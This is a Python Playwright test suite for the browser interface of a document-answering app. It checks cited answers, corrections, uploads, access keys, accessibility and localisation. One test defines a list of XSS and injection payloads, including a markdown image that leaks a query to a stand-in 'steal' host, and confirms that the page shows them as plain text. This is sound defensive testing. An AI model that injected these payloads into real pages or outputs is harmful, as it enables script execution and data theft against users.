"""The page in a browser, over a real server: what a person sees and does, by mouse, keyboard and phone."""

from __future__ import annotations

import fcntl
import json
import re
import shutil
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from serving import QUESTION, Live, Serve

from loresmith import workspace as folders
from loresmith.models.fake import FakeModel
from loresmith.server import jobs, progress
from loresmith.state import State, learning
from loresmith.workspace import write_atomic

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

pytestmark = pytest.mark.browser

RIGHT = "The torque for the M8 flange bolts of the P-200 is 25 Nm [1]."
WRONG = "The torque for the M10 foot bolts is 77 Nm [1]."
VIEWS = ("ask", "documents", "teach/review", "teach/plan", "teach/train", "compare", "releases", "settings")


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    found = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    with playwright.sync_playwright() as driver:
        path = found or driver.chromium.executable_path
        if not Path(path).is_file():
            pytest.skip("there is no Chromium: playwright install chromium")
        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


class Visit:
    """Pages over one live server; whatever a page complains of is kept in `complaints`."""

    def __init__(self, browser: Any, stack: ExitStack, live: Live) -> None:
        self.url = live.url
        self.complaints: list[str] = []
        self.foreign: list[str] = []
        self._browser, self._stack = browser, stack

    def __call__(self, view: str = "ask", *, ready: str = "h1", **options: Any) -> Any:
        context = self._browser.new_context(**{"viewport": {"width": 1280, "height": 860}, **options})
        self._stack.callback(context.close)
        page = context.new_page()
        page.set_default_timeout(10_000)
        page.on("console", lambda said: said.type == "error" and self._hear(said.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("request", lambda asked: self._look(asked.url))
        page.goto(f"{self.url}/#/{view}")
        page.locator(ready).first.wait_for()
        return page

    def _hear(self, text: str) -> None:
        # What a test itself cuts off, and what the server refuses in words that the page shows (a key, a
        # plan without a model to train), the browser notes on its own.
        if "ERR_FAILED" not in text and not any(status in text for status in ("401", "403", "409")):
            self.complaints.append(text)

    def _look(self, url: str) -> None:
        if not url.startswith((self.url, "blob:", "data:")):
            self.foreign.append(url)


@pytest.fixture
def visit(chromium: Any, serve: Serve) -> Iterator[Callable[..., Visit]]:
    """A live server with a model that says what it is given, and visits to it."""
    made: list[Visit] = []
    with ExitStack() as stack:

        def start(model: FakeModel | None = None, **options: Any) -> Visit:
            made.append(Visit(chromium, stack, serve.live(model, **options)))
            return made[-1]

        yield start
    for one in made:
        assert one.complaints == []
        assert one.foreign == []


def ask(page: Any, question: str = QUESTION) -> Any:
    """Ask by keyboard; returns the last turn when it is answered."""
    page.locator("#question").fill(question)
    page.keyboard.press("Enter")
    turn = page.locator(".turn").last
    turn.locator(".foot, .problem").first.wait_for()
    return turn


# --- ask ----------------------------------------------------------------------------------------------


def test_an_answer_comes_with_its_sources_and_a_source_opens_with_the_quote_marked(visit):
    page = visit(FakeModel(RIGHT))()
    turn = ask(page)
    assert "is 25 Nm" in turn.locator(".said").inner_text()
    reference = turn.locator(".ref").first
    assert reference.get_attribute("aria-label").startswith("Source 1: P-200 service manual")
    reference.click()
    panel = page.locator("#panel")
    panel.locator("mark").wait_for()
    assert "M8 flange bolts of the P-200 is 25 Nm" in panel.locator("mark").inner_text()
    assert page.locator("#panel h2").evaluate("node => node === document.activeElement")
    page.keyboard.press("Escape")
    assert panel.is_hidden()
    assert reference.evaluate("node => node === document.activeElement")


def test_what_was_dropped_is_shown_with_the_reason(visit):
    page = visit(FakeModel(f"{RIGHT} {WRONG}"))()
    dropped = ask(page).locator(".dropped")
    dropped.locator("summary").click()
    assert "77 Nm" in dropped.locator("s").inner_text()
    assert dropped.locator("li small").inner_text()


def test_a_correction_is_kept_for_the_next_dataset(visit, serve: Serve):
    page = visit(FakeModel(RIGHT))()
    turn = ask(page)
    turn.get_by_role("button", name="The answer is wrong").click()
    assert page.get_by_label("What would be right?").evaluate("node => node === document.activeElement")
    page.keyboard.type("The torque is 25 Nm.")
    page.get_by_role("button", name="Keep the correction").click()
    page.get_by_text("Your correction is kept").wait_for()
    with State.open(folders.open_dir(serve.root).state_path) as state:
        (row,) = learning.feedback(state)
    assert (row.payload["verdict"], row.payload["correction"]) == ("corrected", "The torque is 25 Nm.")
    assert row.payload["question"] == QUESTION


def test_a_talk_is_there_after_a_reload_and_gone_with_a_new_one(visit):
    page = visit(FakeModel(RIGHT))()
    ask(page)
    page.reload()
    assert "25 Nm" in page.locator(".turn .said").inner_text()
    page.get_by_role("button", name="New chat").click()
    assert page.locator(".turn").count() == 0
    page.reload()
    page.locator("h1").wait_for()
    assert page.locator(".turn").count() == 0


def test_all_ways_side_by_side(visit):
    page = visit(FakeModel(RIGHT), overrides={"model.name": "fake"})()
    ask(page).get_by_role("button", name="All ways side by side").click()
    page.locator(".way .meta").nth(1).wait_for()
    said = page.locator(".way h4").all_inner_texts()
    assert said[0].startswith("Model alone")
    assert said[1].startswith("With documents")


def test_an_answer_that_cannot_be_given_says_why_and_can_be_tried_again(visit):
    page = visit(FakeModel(RIGHT))()
    page.route("**/api/ask", lambda route: route.abort())
    turn = ask(page)
    assert "The server does not answer" in turn.locator(".problem").inner_text()
    page.unroute("**/api/ask")
    turn.get_by_role("button", name="Try again").click()
    page.locator(".turn .ref").first.wait_for()


HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>document.title='taken'</script>",
    "![a](https://example.invalid/steal?q=secret)",
    "[here](javascript:alert(1))",
    "<iframe src='https://example.invalid'></iframe>",
    "<a href='https://example.invalid/?d=1' style='position:fixed;inset:0'>x</a>",
    "\u202e<svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
)


def test_an_answer_with_html_in_it_is_text(visit):
    """Two hundred answers as an attacker would have the model write them: nothing loads, nothing runs."""
    answers = [f"{HOSTILE[n % len(HOSTILE)]} {n} {HOSTILE[(n * 3 + 1) % len(HOSTILE)]}" for n in range(200)]
    page = visit(FakeModel(RIGHT))()
    dialogs: list[str] = []
    page.on("dialog", lambda box: (dialogs.append(box.message), box.dismiss()))
    turns = [
        {
            "question": text,
            "arm": "",
            "answer": {
                "answer": text,
                "abstained": False,
                "arm": "rag",
                "sentences": [
                    {
                        "text": text,
                        "citations": [
                            {
                                "document": text,
                                "passage": text,
                                "quote": text,
                                "locator": {"page": 1, "heading": text},
                            }
                        ],
                    }
                ],
                "dropped": [{"text": text, "reason": text}],
                "hits": [
                    {
                        "document": text,
                        "title": text,
                        "text": text,
                        "passage": text,
                        "locator": {},
                        "score": 1,
                    }
                ],
                "model": text,
            },
        }
        for text in answers
    ]
    for start in range(0, 200, 20):
        talk = {"chat": "c", "arm": "", "turns": turns[start : start + 20]}
        page.evaluate("talk => sessionStorage.setItem('loresmith.talk', JSON.stringify(talk))", talk)
        page.reload()
        page.locator(".turn").nth(19).wait_for()
        shown = page.locator(".turn .sentence").evaluate_all("all => all.map(one => one.firstChild.data)")
        assert shown == answers[start : start + 20]
        assert (
            page.locator(
                "main :is(img, script, iframe, object, embed, a[href^=http], [style], [onerror])"
            ).count()
            == 0
        )
    assert dialogs == []
    assert "taken" not in page.title()


def test_html_that_a_model_streams_is_text_too(visit):
    page = visit(FakeModel(HOSTILE), overrides={"model.name": "fake"})()
    page.locator(".composer select").select_option("base")
    for hostile in HOSTILE[:4]:
        said = ask(page, "Go on.").locator(".said")
        assert said.locator("*").evaluate_all("all => all.map(one => one.localName)") in ([], ["span"])
        assert hostile in said.inner_text()


# --- documents ----------------------------------------------------------------------------------------


def test_documents_are_listed_filtered_and_opened(visit):
    page = visit()("documents", ready=".doc")
    assert page.locator(".doc").count() == 2
    page.get_by_role("searchbox").fill("salar")
    assert page.locator(".doc b").all_inner_texts() == ["Salaries"]
    page.get_by_role("searchbox").fill("")
    page.locator(".doc", has_text="P-200").click()
    page.locator("#panel").get_by_text("p-200.md").first.wait_for()


def test_an_upload_arrives_and_a_refused_one_says_why(visit, serve: Serve, tmp_path: Path):
    note = tmp_path / "note.txt"
    note.write_text("The spare key hangs behind the blue door.")
    program = tmp_path / "tool.exe"
    program.write_bytes(b"MZ\0\0")
    page = visit()("documents", ready=".doc")
    # Reading starts when a file has arrived; here it is enough that it arrives.
    page.route(
        "**/api/jobs", lambda route: route.abort() if route.request.method == "POST" else route.continue_()
    )
    page.locator("#files").set_input_files([note, program])
    page.locator(".uploads .reason").wait_for()
    assert page.locator(".uploads li", has_text="tool.exe").locator(".reason").inner_text()
    page.locator(".uploads li", has_text="note.txt").get_by_text("arrived").wait_for()
    assert (serve.root / "uploads" / "note.txt").read_text() == note.read_text()


def test_an_upload_for_some_readers_is_kept_from_the_others(visit, serve: Serve, tmp_path: Path):
    note = tmp_path / "note.txt"
    note.write_text("The spare key hangs behind the blue door.")
    page = visit()("documents", ready=".doc")
    page.route(
        "**/api/jobs", lambda route: route.abort() if route.request.method == "POST" else route.continue_()
    )
    page.get_by_text("Only for some readers").click()
    page.locator(".drop").get_by_label("Access labels").fill("staff, plant-2")
    page.locator("#files").set_input_files([note])
    page.locator(".uploads li", has_text="note.txt").get_by_text("arrived").wait_for()
    (spec,) = [s for s in folders.open_dir(serve.root).source_specs() if "uploads" in s.uri]
    assert sorted(spec.labels) == ["plant-2", "staff"]


# --- long work ----------------------------------------------------------------------------------------


class Work:
    """A training under way as its process would leave it in the job's files (server/jobs.py)."""

    NAME = "20260101-120000-000aaaa"

    def __init__(self, root: Path) -> None:
        folder = folders.open_dir(root)
        self._place = jobs.jobs_dir(folder)
        self._place.mkdir(parents=True)
        asked = {
            "id": self.NAME,
            "kind": "train",
            "options": {},
            "by": "owner",
            "labels": [],
            "created": time.time(),
        }
        self._lock = (self._place / f"{self.NAME}.lock").open("w")
        fcntl.flock(self._lock, fcntl.LOCK_EX)
        self._write("json", asked)
        self._write("started", {"started": time.time()})
        self._record = progress.step_recorder(self._place / self.NAME)
        self.steps = 0

    def step(self, count: int) -> None:
        for _ in range(count):
            self.steps += 1
            self._record({"step": self.steps, "loss": 3 / self.steps})
        self._write("progress", {"stage": "training", "done": self.steps, "total": 40, "left": None})

    def stop(self) -> None:
        self._write("end", {"status": 130, "finished": time.time(), "stopped": True})
        self._lock.close()

    def _write(self, ending: str, content: dict[str, Any]) -> None:
        write_atomic(self._place / f"{self.NAME}.{ending}", json.dumps(content).encode())


@pytest.fixture
def work(serve: Serve) -> Iterator[Work]:
    made = Work(serve.root)
    yield made
    made.stop()


def test_a_training_is_watched_live_through_a_reload_until_it_ends(visit, work: Work):
    work.step(10)
    page = visit()("teach/train", ready=".job .chart")
    page.locator(".job .soft", has_text="10 of 40").wait_for()
    work.step(10)
    page.locator(".job .soft", has_text="20 of 40").wait_for()
    assert "step 20" in page.locator(".job .chart svg").text_content()
    assert page.locator("#rail-job").inner_text().split() == ["Training", "50", "%"]
    page.reload()
    page.locator(".job .soft", has_text="20 of 40").wait_for()
    assert page.get_by_role("link", name="To the rows").count() == 0
    work.stop()
    page.get_by_text("The training is stopped").wait_for()
    assert page.get_by_role("button", name="Go on").is_enabled()
    page.get_by_text("No training rows yet").wait_for()  # where there are some, training can be started
    assert page.locator("#rail-job").inner_text() == ""


def test_work_that_fails_says_why(visit, serve: Serve):
    folder = folders.open_dir(serve.root)
    page = visit()("teach/train", ready=".nothing")
    # A real process that fails at once: there is no such adapter.
    jobs.post(folder, "train", {}, ["adapters", "use", "lora-0000"], "owner")
    page.reload()
    page.get_by_text("The training failed").wait_for(timeout=60_000)
    said = page.locator(".job .caution").inner_text()
    (job,) = jobs.listing(folder)
    assert job.error is not None
    assert job.error["problem"] in said
    assert job.error["remedy"] in said


# --- for everyone -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_every_view_fits_and_every_control_has_a_name(visit, width, scheme):
    begun = visit(FakeModel(RIGHT))
    page = begun(viewport={"width": width, "height": 800}, color_scheme=scheme)
    for view in VIEWS:
        page.goto(f"{begun.url}/#/{view}")
        page.locator(f".view-{view.partition('/')[0]} h1").wait_for()
        page.locator(".waiting").first.wait_for(state="detached")
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, view
        controls = page.locator("button, a[href], input, select, textarea, summary, progress")
        assert controls.evaluate_all(NAMELESS) == [], view
        assert page.locator("h1").count() == 1, view
        assert page.evaluate(TWICE) == [], view


TWICE = """[...document.querySelectorAll('[id]')].map(one => one.id)
  .filter((id, at, all) => all.indexOf(id) < at)"""
NAMELESS = """all => all.filter(one => one.checkVisibility() && !(
  one.getAttribute('aria-label') || one.textContent.trim() ||
  (one.labels && one.labels.length && one.labels[0].textContent.trim())
)).map(one => one.outerHTML.slice(0, 120))"""


def test_everything_can_be_reached_by_keyboard(visit):
    page = visit(FakeModel(RIGHT))()
    page.locator("#question").blur()
    for key, view in (("2", "documents"), ("6", "settings"), ("1", "ask")):
        page.keyboard.press(key)
        page.wait_for_url(f"**/#/{view}")
        page.locator("#question").or_(page.locator("h1")).first.wait_for()
        page.evaluate("document.activeElement.blur()")
    page.keyboard.press("/")
    assert page.locator("#question").evaluate("node => node === document.activeElement")
    page.locator("#question").blur()
    page.keyboard.press("?")
    page.get_by_role("dialog").get_by_text("this help").wait_for()


@pytest.mark.parametrize(
    ("language", "word"), [("it-IT", "Chiedi"), ("es-MX", "Preguntar"), ("zh-CN", "提问"), ("fi-FI", "Ask")]
)
def test_it_speaks_the_language_of_the_browser_or_english(visit, language, word):
    page = visit()(locale=language)
    assert page.locator(".nav a").first.inner_text() == word
    assert page.locator("html").get_attribute("lang") == (language[:2] if language[:2] != "fi" else "en")


def test_theme_and_language_stay_as_chosen(visit):
    page = visit()("settings")
    page.get_by_label("Light or dark").select_option("dark")
    page.get_by_label("Language of the page").select_option("it")
    page.get_by_label("Chiaro o scuro").wait_for()
    page.reload()
    page.get_by_label("Chiaro o scuro").wait_for()
    assert page.locator("html").get_attribute("data-theme") == "dark"
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(20, 23, 26)"


def test_a_key_is_asked_for_and_kept_out_of_the_address(visit, serve: Serve):
    secret = serve.key("anna", "reader", ["staff"])["Authorization"].removeprefix("Bearer ")
    page = visit()(ready="dialog")
    page.get_by_label("Access key").fill("wrong")
    page.keyboard.press("Enter")
    page.get_by_text("This key is not known").wait_for()
    page.get_by_label("Access key").fill(secret)
    page.keyboard.press("Enter")
    page.locator("#question").wait_for()
    assert secret not in page.url
    # A reader is shown what a reader may do.
    assert page.locator(".nav a").all_inner_texts() == ["Ask", "Documents", "Settings"]


def test_an_editor_without_every_label_is_shown_only_what_such_a_one_may_do(visit, serve: Serve):
    def views(name: str, labels: list[str]) -> list[str]:
        secret = serve.key(name, "editor", labels)["Authorization"].removeprefix("Bearer ")
        page = begun(ready="dialog")
        page.get_by_label("Access key").fill(secret)
        page.keyboard.press("Enter")
        page.locator("#question").wait_for()
        return page.locator(".nav a").all_inner_texts()

    serve.key("owner", "owner")
    begun = visit()
    assert views("some", []) == ["Ask", "Documents", "Settings"]
    assert views("all", ["staff"]) == ["Ask", "Documents", "Teach", "Compare", "Releases", "Settings"]


def test_screen_readers_are_told_each_sentence_once_and_what_it_stands_on(visit):
    page = visit(FakeModel(f"{RIGHT} {WRONG}"))()
    page.evaluate("""() => {
      window.heard = [];
      new MutationObserver((changes) => changes.forEach((change) => change.addedNodes.forEach((node) =>
        heard.push(node.textContent)))).observe(document.getElementById("live"), { childList: true });
    }""")
    assert page.locator("#live").get_attribute("aria-live") == "polite"
    ask(page)
    heard = page.evaluate("heard")
    assert [text for text in heard if "25 Nm" in text] == [
        "The torque for the M8 flange bolts of the P-200 is 25 Nm."
    ]
    assert heard[-1] == "1 source. 1 sentence was left out."
    assert page.locator(".answer[aria-live]").count() == 0


def test_focus_is_kept_where_a_control_goes_away(visit):
    page = visit(FakeModel(RIGHT), overrides={"model.name": "fake"})()
    turn = ask(page)
    wrong = turn.get_by_role("button", name="The answer is wrong")
    wrong.click()
    page.get_by_role("button", name="Only mark as wrong").press("Enter")
    page.get_by_text("Marked as wrong").wait_for()
    assert wrong.evaluate("node => node === document.activeElement")
    turn.get_by_role("button", name="All ways side by side").press("Enter")
    assert page.evaluate("document.activeElement.className") == "ways-title"
    page.locator(".way .meta").nth(1).wait_for()


def test_on_a_phone_the_source_is_a_dialog_over_the_page(visit):
    page = visit(FakeModel(RIGHT))(viewport={"width": 390, "height": 800}, has_touch=True)
    ask(page).locator(".ref").first.tap()
    panel = page.get_by_role("dialog")
    panel.locator("mark").wait_for()
    assert page.locator("#main").evaluate("node => node.inert")
    panel.get_by_role("button", name="Close").tap()
    assert not page.locator("#main").evaluate("node => node.inert")


def test_single_keys_can_be_switched_off(visit):
    page = visit(FakeModel(RIGHT))("settings")
    page.get_by_label("Single-key shortcuts").uncheck()
    page.locator("h1").click()
    page.keyboard.press("2")
    page.keyboard.press("?")
    assert page.url.endswith("#/settings")
    assert page.get_by_role("dialog").count() == 0
    page.get_by_label("Single-key shortcuts").check()
    page.locator("h1").click()
    page.keyboard.press("2")
    page.wait_for_url("**/#/documents")


def test_a_long_list_of_documents_is_drawn_as_far_as_one_looks(visit):
    begun = visit()
    page = begun("documents", ready=".doc")
    one = page.evaluate("fetch('/api/documents').then((answer) => answer.json())")
    first = one["documents"][0]
    one["documents"] = [{**first, "id": f"d{n:04d}.md", "title": f"Report {n:04d}"} for n in range(3000)]
    page.route("**/api/documents", lambda route: route.fulfill(json=one))
    page.reload()
    page.locator(".doc").first.wait_for()
    assert page.locator(".doc").count() < 500
    page.get_by_role("searchbox").fill("report 2999")
    page.locator(".doc", has_text="Report 2999").wait_for()
    assert page.locator(".doc").count() == 1
    page.get_by_role("searchbox").fill("no such thing")
    page.get_by_text("No title has these words").wait_for()
    page.get_by_role("searchbox").fill("")
    before = page.locator(".doc").count()
    page.locator(".doc").last.scroll_into_view_if_needed()
    page.wait_for_function("before => document.querySelectorAll('.doc').length > before", arg=before)


def test_a_server_that_comes_back_is_noticed(visit):
    begun = visit(FakeModel(RIGHT))
    page = begun()
    page.route("**/api/status", lambda route: route.abort())
    page.reload()
    page.get_by_text("The server does not answer").wait_for()
    page.unroute("**/api/status")
    page.locator("#question").wait_for()


def test_the_first_view_asks_for_little(visit):
    begun = visit()
    begun()
    page = begun(ready="#question")
    loaded = page.evaluate("performance.getEntriesByType('resource').map(e => [e.name, e.transferSize])")
    assert len(loaded) <= 20
    assert sum(size for _, size in loaded) < 60_000


def test_numbers_are_written_as_the_language_does(visit):
    page = visit()("documents", ready=".doc", locale="it-IT")
    assert re.search(r"2 documenti · \d+ bran", page.locator(".head .lead").inner_text())
